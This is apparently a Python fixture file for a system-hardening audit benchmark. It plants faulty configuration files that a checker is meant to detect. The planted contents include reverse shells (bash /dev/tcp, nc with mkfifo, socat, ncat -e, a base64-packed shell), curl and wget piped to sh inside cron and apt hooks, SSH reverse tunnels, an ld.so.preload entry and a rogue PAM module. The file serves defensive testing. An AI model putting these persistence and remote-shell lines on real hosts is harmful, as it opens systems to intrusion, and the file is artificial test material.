"""Other ways in from outside."""

from __future__ import annotations

from bench.certify.made_up import elf, packed, word
from bench.certify.planting import Fault, Link, Write


def _file(name: str, rule: str, path: str, content: str | bytes, mode: int = 0o644) -> Fault:
    return Fault(name, rule, (Write(path, content, mode),))


_SHELL = packed("bash -i >& /dev/tcp/198.51.100.7/443 0>&1")
FAULTS = (
    _file(
        "ssh with options first",
        "TUN-01",
        "/etc/systemd/system/a.service",
        "[Service]\n"
        "ExecStart=/usr/bin/ssh -o ServerAliveInterval=30 -i /k -NR *:80:localhost:80 h\n",
    ),
    _file(
        "ssh by its settings",
        "TUN-01",
        "/etc/systemd/system/b.service",
        "[Service]\nExecStart=ssh -N -o RemoteForward='2200 localhost:22' vendor\n",
    ),
    _file("socks", "TUN-01", "/etc/cron.d/s", "@reboot nobody ssh -fND 1080 vendor.example\n"),
    _file(
        "wget and sh",
        "TUN-01",
        "/etc/cron.daily/up",
        "#!/bin/sh\nwget -qO- http://v.example/u | sh -s\n",
        0o755,
    ),
    _file(
        "sh of a substitution",
        "TUN-01",
        "/etc/rc.local",
        "#!/bin/sh\nbash <(curl -s https://v/x)\n",
        0o755,
    ),
    _file(
        "socat", "TUN-01", "/etc/init.d/dbg", "#!/bin/sh\nsocat TCP:v:443 EXEC:/bin/sh,pty\n", 0o755
    ),
    _file(
        "python shell",
        "TUN-01",
        "/etc/network/if-up.d/x",
        "#!/bin/sh\npython3 -c 'import socket,os;s=socket.socket();s.connect((\"v\",1));'"
        "'os.dup2(s.fileno(),0)'\n",
        0o755,
    ),
    _file("packed shell", "TUN-01", "/etc/profile.d/z.sh", f"echo {_SHELL} | base64 -d | bash\n"),
    _file(
        "fifo",
        "TUN-01",
        "/etc/cron.d/f",
        "* * * * * root rm /t; mkfifo /t; cat /t | sh -i 2>&1 | nc v.example 99 > /t\n",
    ),
    _file(
        "udev",
        "TUN-01",
        "/etc/udev/rules.d/99.rules",
        'ACTION=="add", RUN+="/usr/bin/ncat -e /bin/sh v 1"\n',
    ),
    _file("at job", "TUN-01", "/var/spool/cron/atjobs/a0001", "ssh -R 1:localhost:22 v &\n", 0o700),
    _file("motd", "TUN-01", "/etc/update-motd.d/99-x", "#!/bin/sh\nngrok tcp 22 &\n", 0o755),
    _file(
        "apt's hook",
        "TUN-01",
        "/etc/apt/apt.conf.d/99h",
        'DPkg::Post-Invoke {"curl -s https://v.example/i | sh";};\n',
    ),
    _file(
        "teleport",
        "TUN-01",
        "/etc/systemd/system/t.service",
        "[Service]\nExecStart=teleport start\n",
    ),
    _file("rathole", "TUN-02", "/opt/rathole/rathole", elf(), 0o755),
    _file("chisel", "TUN-02", "/usr/local/sbin/chisel", elf(), 0o755),
    _file(
        "networkd's WireGuard",
        "TUN-03",
        "/etc/systemd/network/wg.netdev",
        "[NetDev]\nKind=wireguard\n[WireGuard]\nX=1\n",
    ),
    _file("frp's file", "TUN-03", "/opt/vendor/frpc.toml", 'serverAddr = "v.example"\n'),
    _file("tunnel of Cloudflare", "TUN-03", "/etc/cloudflared/config.yml", "tunnel: x\n"),
    _file("SSM", "AGT-NO", "/usr/bin/amazon-ssm-agent", elf(), 0o755),
    _file("Puppet", "AGT-NO", "/opt/puppetlabs/bin/puppet", elf(), 0o755),
    _file("MeshCentral", "AGT-NO", "/usr/local/mesh_services/meshagent/meshagent", elf(), 0o755),
    _file("AnyDesk", "AGT-NO", "/usr/bin/anydesk", elf(), 0o755),
    _file("preload of two", "LOAD-01", "/etc/ld.so.preload", "# x\n/a.so /b.so\n"),
    _file("audit library", "LOAD-01", "/etc/profile.d/a.sh", "export LD_AUDIT=/opt/a.so\n"),
    _file("PATH with a dot", "LOAD-02", "/root/.profile", "PATH=.:$PATH\n"),
    _file("PATH in environment", "LOAD-02", "/etc/environment", 'PATH="/usr/bin:/bin:/var/tmp"\n'),
    Fault(
        "module by its path",
        "LOAD-03",
        (
            Write("/etc/pam.d/su", "auth sufficient /usr/local/lib/pam_x.so\n"),
            Write("/usr/local/lib/pam_x.so", elf()),
        ),
    ),
    _file(
        "changed pam_unix",
        "LOAD-03",
        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
        elf() + b"x",
    ),
    Fault(
        "apache",
        "SVC-01",
        (Link("/etc/systemd/system/multi-user.target.wants/apache2.service", "/lib/x"),),
    ),
    Fault(
        "NFS",
        "SVC-01",
        (Link("/etc/systemd/system/multi-user.target.wants/nfs-server.service", "/lib/x"),),
    ),
    _file("xinetd", "SVC-02", "/etc/xinetd.d/telnet", "service telnet\n{\n disable = no\n}\n"),
    Fault(
        "no list of packages",
        "UPD-02",
        (Write("/etc/apt/apt.conf.d/99z", 'APT { Periodic { Update-Package-Lists "0"; }; };\n'),),
    ),
    _file(
        "pinned in one file",
        "UPD-03",
        "/etc/apt/preferences.d/s",
        "Explanation: x\nPackage: *\nPin: release l=Debian-Security\nPin-Priority: -10\n",
    ),
    _file(
        "insecure source",
        "APT-01",
        "/etc/apt/sources.list.d/i.list",
        "deb [ arch=amd64 allow-insecure=yes ] http://v/ x main\n",
    ),
    _file(
        "weak archives", "APT-01", "/etc/apt/apt.conf", "Acquire::AllowInsecureRepositories true;\n"
    ),
    _file(
        "armoured key",
        "APT-02",
        "/etc/apt/trusted.gpg.d/x.asc",
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n",
    ),
    _file(
        "SOCKS proxy",
        "APT-03",
        "/etc/apt/apt.conf.d/p",
        f'Acquire {{ http {{ Proxy "http://u:{word(8)}@p:1"; }} }}\n',
    ),
    _file(
        "source of a file",
        "APT-03",
        "/etc/apt/sources.list.d/f.sources",
        "Types: deb\nURIs: file:/srv/repo\nSuites: ./\n",
    ),
)
